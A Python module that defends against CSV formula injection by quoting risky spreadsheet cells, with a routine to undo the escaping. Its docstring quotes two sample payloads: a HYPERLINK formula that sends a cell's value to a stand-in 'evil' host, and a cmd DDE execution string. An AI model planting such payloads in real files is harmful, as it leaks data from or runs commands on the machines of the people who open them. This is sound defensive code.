"""CSV files that a person opens in a spreadsheet: no cell may run as a formula.

Quarantine files repeat the rejected rows as they came, and a manifest is written by whoever
files it: a consignee named ``=HYPERLINK("http://evil/?"&A1,"click")`` or ``+cmd|' /C calc'!A0``
would run when an analyst opens the file in Excel or LibreOffice (CSV or formula injection).
Every CSV the engine writes goes through :func:`write_csv`, which follows the OWASP advice:

* a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading single quote (``'=HYPERLINK(...)``), so spreadsheets show it as text; a cell that is a
  plain number (``-12.5``, ``+3``) is left as it is, since a number cannot run;
* every text cell is quoted (``csv.QUOTE_NONNUMERIC``), so a separator inside a cell (``a;=1+1``
  read with ``;`` as the separator) cannot start a new cell; quotes inside are doubled;
* column names get the same treatment.

The escaping is visible in the file (that is the point): a value read back from a quarantine CSV
starts with the added quote. Parquet files are not escaped (no spreadsheet runs them).

>>> import pandas as pd
>>> escape_formulas(pd.DataFrame({"consignee": ["=1+1", "ACME BV", "-3"]}))["consignee"].tolist()
["'=1+1", 'ACME BV', '-3']
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import IO, Any

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_STARTS_LIKE_FORMULA = r"^[=+\-@\t\r]"
_PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"


def escape_cell(value: Any) -> Any:
    """One cell as :func:`escape_formulas` writes it (non-text values unchanged)."""
    if (isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
            and re.fullmatch(_PLAIN_NUMBER, value) is None):
        return "'" + value
    return value


def escape_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and column names) cannot run as spreadsheet formulas.

    Numeric, boolean and date columns are unchanged; in text columns (object, string,
    category) a cell starting with a formula character gets a leading ``'`` unless it is a
    plain number. Vectorised: one regular expression per text column.
    """
    out = df.copy(deep=False)
    for col in out.columns:
        s = out[col]
        if not (s.dtype == object or isinstance(s.dtype, pd.CategoricalDtype)
                or pd.api.types.is_string_dtype(s.dtype)):
            continue
        text = s.astype("string")
        risky = (text.str.contains(_STARTS_LIKE_FORMULA, regex=True)
                 & ~text.str.fullmatch(_PLAIN_NUMBER)).fillna(False).to_numpy(dtype=bool)
        if risky.any():
            s = s.astype(object).copy()
            s[risky] = ("'" + text[risky]).astype(object).to_numpy()
            out[col] = s
    out.columns = [escape_cell(c) for c in out.columns]
    return out


def write_csv(df: pd.DataFrame, path_or_buf: str | Path | IO[str], *, mode: str = "w",
              header: bool = True) -> None:
    """Write ``df`` as CSV (no index) with formula cells escaped and text cells quoted.

    ``mode="a"`` with ``header=False`` appends a chunk to a file started by an earlier call.
    """
    escape_formulas(df).to_csv(path_or_buf, index=False, mode=mode, header=header,
                               quoting=csv.QUOTE_NONNUMERIC)


_ESCAPED = r"^'(?=[=+\-@\t\r])"


def unescape_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`escape_formulas` on a frame read from CSV, in place of its text columns.

    A file the engine wrote (a quarantine file fixed by an analyst, a score file) reads back with
    the values it had: ``'=1+1`` becomes ``=1+1`` again, and the schema then judges the value
    itself. Only a quote followed by a formula character is removed. Vectorised per column.
    """
    for col in df.columns:
        s = df[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            text = s.astype("string")
            hit = text.str.match(_ESCAPED).fillna(False).to_numpy(dtype=bool)
            if hit.any():
                s = s.astype(object).copy()
                s[hit] = text[hit].str.slice(1).astype(object).to_numpy()
                df[col] = s
    return df
